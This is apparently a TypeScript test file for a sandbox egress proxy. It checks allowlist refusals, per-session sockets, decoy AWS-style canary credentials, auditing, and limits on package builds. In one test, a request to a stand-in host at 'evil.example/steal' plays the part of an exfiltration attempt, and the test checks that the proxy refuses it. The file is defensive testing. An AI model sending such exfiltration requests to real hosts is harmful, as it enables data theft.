import { randomBytes } from "node:crypto";
import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
import http from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import type { ExecResult } from "@outrig/core";
import type { EgressPolicyBody } from "@outrig/protocol";
import type { AuditEntryInput } from "@outrig/storage";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../config.js";
import { canariesFor } from "./canaries.js";
import { parseEgressHosts } from "./parse-egress-hosts.js";
import { SANDBOX_CA_BUNDLE, SessionEgress } from "./session-egress.js";

describe("OUTRIG_EGRESS_HOSTS", () => {
  it("parses name=address pairs, several addresses per name", () => {
    expect(parseEgressHosts("git.corp=10.0.0.5, Other=127.0.0.1,git.corp=::1")).toEqual(
      new Map([
        ["git.corp", ["10.0.0.5", "::1"]],
        ["other", ["127.0.0.1"]],
      ]),
    );
    expect(parseEgressHosts(undefined).size).toBe(0);
  });

  it.each([
    ["git.corp", "is not name=address"],
    ["git.corp=not-an-ip", "is not an IP address"],
    ["10.0.0.1=10.0.0.1", "is not a host name"],
    ["*.corp=10.0.0.1", "is not a host name"],
  ])("stops startup on %s, naming the variable", (value, message) => {
    expect(() => loadConfig({ OUTRIG_EGRESS_HOSTS: value })).toThrow(
      expect.objectContaining({
        message: expect.stringMatching(new RegExp(`^Invalid OUTRIG_EGRESS_HOSTS: .*${message}`)),
      }),
    );
  });
});

describe("canaries", () => {
  it("are derived per session from the master key, shaped like AWS keys", () => {
    const key = randomBytes(32);
    const first = canariesFor(key, "ses_a");
    expect(first).toEqual(canariesFor(key, "ses_a"));
    expect(first.accessKeyId).toMatch(/^AKIA[A-Z2-7]{16}$/);
    expect(first.secretAccessKey).toMatch(/^[A-Za-z0-9+/]{40}$/);
    expect(canariesFor(key, "ses_b").accessKeyId).not.toBe(first.accessKeyId);
    expect(canariesFor(randomBytes(32), "ses_a").secretAccessKey).not.toBe(first.secretAccessKey);
  });
});

describe("session egress", () => {
  let home: string;
  let egress: SessionEgress;
  let policy: EgressPolicyBody | null = null;
  const audit: { orgId: string; entry: AuditEntryInput }[] = [];
  const masterKey = randomBytes(32);
  const session = { id: "ses_one", orgId: "org_1", userId: "usr_1" };

  beforeAll(async () => {
    home = await mkdtemp(path.join(tmpdir(), "outrig-session-egress-"));
    egress = await SessionEgress.create({
      home,
      masterKey,
      policies: { get: async () => policy },
      secrets: { resolveSecret: async () => null, resolveAllSecrets: async () => new Map() },
      audit: {
        append: async (orgId, entry) => {
          audit.push({ orgId, entry });
        },
      },
      log: () => undefined,
    });
  });
  afterAll(async () => {
    await egress?.close();
    if (home) await rm(home, { recursive: true, force: true });
  });

  function get(socketPath: string, url: string): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      http
        .get({ socketPath, path: url, headers: { host: new URL(url).host } }, (response) => {
          let body = "";
          response.on("data", (chunk) => {
            body += chunk;
          });
          response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
        })
        .on("error", reject);
    });
  }

  const ok: ExecResult = {
    exitCode: 22,
    signal: null,
    stdout: "",
    stderr: "curl: (22) The requested URL returned error: 403",
    isTimedOut: false,
    isTruncated: false,
    durationMs: 1,
  };

  it("gives each session its own socket directory, the CA bundle, proxy variables, placeholders and canaries", async () => {
    policy = {
      allowedHosts: ["git.example.com"],
      credentials: [
        { host: "git.example.com", secretName: "GIT_TOKEN", scheme: "basic" },
        { host: "git.example.com", secretName: "PATH", scheme: "bearer" },
      ],
    };
    const options = await egress.sandboxOptions(session);
    expect(options.egressSocketPath).toBe(path.join(home, "egress", "ses_one", "proxy.sock"));
    expect((await stat(options.egressSocketPath)).isSocket()).toBe(true);
    expect((await stat(path.dirname(options.egressSocketPath))).mode & 0o777).toBe(0o700);
    const other = await egress.sandboxOptions({ ...session, id: "ses_two" });
    expect(path.dirname(other.egressSocketPath)).not.toBe(path.dirname(options.egressSocketPath));
    expect(options.readOnlyMounts).toEqual([
      { hostPath: path.join(home, "egress-ca", "ca-bundle.pem"), sandboxPath: SANDBOX_CA_BUNDLE },
    ]);
    const bundle = await readFile(path.join(home, "egress-ca", "ca-bundle.pem"), "utf8");
    expect(
      bundle
        .trimEnd()
        .endsWith((await readFile(path.join(home, "egress-ca", "egress-ca.crt"), "utf8")).trimEnd()),
    ).toBe(true);
    const canaries = canariesFor(masterKey, "ses_one");
    expect(options.env).toMatchObject({
      GIT_TOKEN: "OUTRIG_SECRET_PLACEHOLDER_GIT_TOKEN",
      HTTPS_PROXY: "http://127.0.0.1:3128",
      http_proxy: "http://127.0.0.1:3128",
      SSL_CERT_FILE: SANDBOX_CA_BUNDLE,
      GIT_SSL_CAINFO: SANDBOX_CA_BUNDLE,
      NODE_EXTRA_CA_CERTS: SANDBOX_CA_BUNDLE,
      REQUESTS_CA_BUNDLE: SANDBOX_CA_BUNDLE,
      CURL_CA_BUNDLE: SANDBOX_CA_BUNDLE,
      AWS_ACCESS_KEY_ID: canaries.accessKeyId,
      AWS_SECRET_ACCESS_KEY: canaries.secretAccessKey,
    });
    // A secret named like a fixed variable never replaces it.
    expect(options.env.PATH).toBeUndefined();
  });

  it("appends refusals during a command to its stderr, for that session only, and audits them", async () => {
    const { egressSocketPath } = await egress.sandboxOptions(session);
    const other = await egress.sandboxOptions({ ...session, id: "ses_two" });
    audit.length = 0;
    const result = await egress.explainRefusals("ses_one", async () => {
      const refused = await get(egressSocketPath, "http://evil.example/steal?x=1");
      expect(refused.status).toBe(403);
      expect(refused.body).toContain("evil.example is not on this org's egress allowlist");
      await get(egressSocketPath, "http://evil.example/steal?x=2");
      await get(other.egressSocketPath, "http://elsewhere.example/");
      return ok;
    });
    expect(result.stderr).toBe(
      "curl: (22) The requested URL returned error: 403\n" +
        "outrig egress refused GET http://evil.example/steal: host evil.example is not on this org's egress allowlist; an org admin can add it (PUT /v1/egress-policy) (2 times)\n",
    );
    expect((await egress.explainRefusals("ses_one", async () => ok)).stderr).toBe(ok.stderr);
    await expect.poll(() => audit.length).toBe(3);
    expect(audit[0]).toMatchObject({
      orgId: "org_1",
      entry: {
        kind: "egress",
        sessionId: "ses_one",
        userId: "usr_1",
        data: { decision: "refused", refusal: "host_not_allowed", url: "http://evil.example:80/steal" },
      },
    });
  });

  it("gives a package build the registry alone, with the org's credentials for it and no others", async () => {
    policy = {
      allowedHosts: ["other.example", "registry.example"],
      credentials: [
        { host: "registry.example", secretName: "NPM_TOKEN", scheme: "bearer" },
        { host: "other.example", secretName: "GIT_TOKEN", scheme: "basic" },
      ],
    };
    egress.invalidatePolicy("org_1");
    const build = { id: "pkgbuild_one", orgId: "org_1", userId: "usr_1" };
    const { egressSocketPath } = await egress.packageBuildOptions(build, ["registry.example"]);
    expect(await egress.networkAccess("org_1", build.id)).toEqual({
      allowedHosts: ["registry.example"],
      credentialHosts: ["registry.example"],
    });
    // A host the org allows its sessions is refused to the build.
    const refused = await get(egressSocketPath, "http://other.example/");
    expect(refused.status).toBe(403);
    expect(refused.body).toContain("other.example is not on this org's egress allowlist");
    // Released, the id is an ordinary one again (the org's policy as it is).
    await egress.releaseSession(build.id);
    expect((await egress.networkAccess("org_1", build.id)).allowedHosts).toEqual([
      "other.example",
      "registry.example",
    ]);
  });

  it("closes a session's socket when its sandbox is gone, and opens it again for the next sandbox", async () => {
    const released = { ...session, id: "ses_released" };
    const { egressSocketPath } = await egress.sandboxOptions(released);
    const before = egress.listenerCount;
    expect((await get(egressSocketPath, "http://b.example/")).status).toBe(403);
    await egress.releaseSession(released.id);
    expect(egress.listenerCount).toBe(before - 1);
    await expect(stat(path.dirname(egressSocketPath))).rejects.toMatchObject({ code: "ENOENT" });
    await expect(get(egressSocketPath, "http://b.example/")).rejects.toThrow();
    await egress.releaseSession(released.id); // idempotent
    const again = await egress.sandboxOptions(released);
    expect(again.egressSocketPath).toBe(egressSocketPath);
    expect((await get(again.egressSocketPath, "http://b.example/")).status).toBe(403);
    await egress.releaseSession(released.id);
  });

  it("applies a policy change within a second, and refuses everything without a policy", async () => {
    const { egressSocketPath } = await egress.sandboxOptions(session);
    policy = { allowedHosts: ["a.example"], credentials: [] };
    egress.invalidatePolicy("org_1");
    // No request here ever reaches DNS: b.example is refused by the allowlist either way.
    expect((await get(egressSocketPath, "http://b.example/")).body).toContain(
      "host b.example is not on this org's egress allowlist; an org admin",
    );
    policy = null;
    await expect
      .poll(async () => (await get(egressSocketPath, "http://b.example/")).body, { timeout: 5000 })
      .toContain("is not on this org's egress allowlist (it is empty)");
  });
});
